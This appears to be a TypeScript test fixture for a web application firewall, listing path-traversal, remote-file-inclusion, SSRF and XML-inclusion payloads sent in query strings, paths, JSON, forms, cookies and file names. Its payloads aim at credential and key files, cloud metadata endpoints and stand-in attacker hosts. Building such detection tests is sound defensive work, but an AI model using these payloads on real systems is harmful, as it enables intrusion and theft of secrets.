import { each, inCookie, inFileName, inForm, inJson, inList, inPath, inQuery, inXml, type Sent } from "../request";

/** Files that are not the client's, of this machine (930) and of others (931). */
export const files: Sent[] = [
  ...each("930", inQuery, [
    "../../../../etc/passwd", "..\\..\\..\\windows\\win.ini", "/etc/shadow", "/proc/self/environ", "....//....//etc/passwd",
    "..%2f..%2f..%2fetc%2fpasswd", "/var/log/nginx/access.log", "file:///etc/hosts", "/root/.ssh/id_rsa",
    "../../manage.py", "/run/secrets/kubernetes.io/../../etc/passwd",
  ]),
  ...each("930", inPath, [
    "/.env", "/.git/HEAD", "/.aws/credentials", "/.ssh/id_rsa", "/.htpasswd", "/api/.svn/entries", "/wp-config.php", "/.DS_Store",
    "/api/v1/%2e%2e%5c%2e%2e%5cetc/passwd", "/.bash_history", "/static/..%5c..%5cetc/passwd", "/api/v1/orders/?file=%252e%252e%252f%252e%252e%252fetc%252fpasswd",
  ]),
  ...each("930", inJson, ["../../../../etc/passwd", "/etc/ssh/sshd_config", "..\\..\\boot.ini", "../../proc/1/cmdline"]),
  ...each("930", inList, ["../../../../../../var/www/../etc/passwd"]),
  ...each("930", inForm, ["../../../etc/group", "/etc/nginx/nginx.conf"]),
  ...each("930", inCookie, ["../../../../etc/passwd"]),
  ...each("930", inFileName, ["../../../../etc/cron.d/evil", "..\\..\\evil.exe"]),

  ...each("931", inQuery, [
    "http://203.0.113.9/shell.txt?", "https://198.51.100.7:8443/evil.txt", "ftp://203.0.113.9/a.php", "file://etc/passwd?", "http://evil.example/shell.txt?",
    "ogg://203.0.113.9/x",
  ]),
  // Of the machine itself, and of its cloud.
  ...each("931", inJson, [
    "http://169.254.169.254/metadata/v1/user-data", "http://metadata.google.internal/", "http://[::1]:8000/", "http://localhost:6379/", "http://2130706433/", "http://0x7f000001/", "gopher://127.0.0.1:6379/_x", "http://a@127.0.0.1/", "\\\\::1\\c$\\users\\default\\ntuser.dat", "netdoc:///etc/x",
  ]),
  // Documents that are put together from others.
  ...each("931", inXml, [
    '<a xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include parse="text" href="file:///etc/passwd"/></a>', "<a><b xmlns='http://www.w3.org/2001/XInclude' href='http://10.0.0.1/'/></a>",
    '<xs:schema xmlns:xs="http://www.w3.org/2001/XMLSchema"><xs:include schemaLocation="http://evil.example/a"/></xs:schema>', '<!DOCTYPE a SYSTEM "http://evil.example/a"><a/>', '<?xml version="1.0"?><?xml-stylesheet href="http://evil.example/a.xsl" type="text/xsl"?><a/>',
  ]),
  ...each("931", inForm, ["http://203.0.113.77/c99.txt?"]),
  ...each("931", inJson, ["https://203.0.113.9/payload?"]),
  ...each("931", inPath, ["/api/v1/?include(=http://evil.example/x", "/index.php?_CONF[path]=http://evil.example/"]),
];
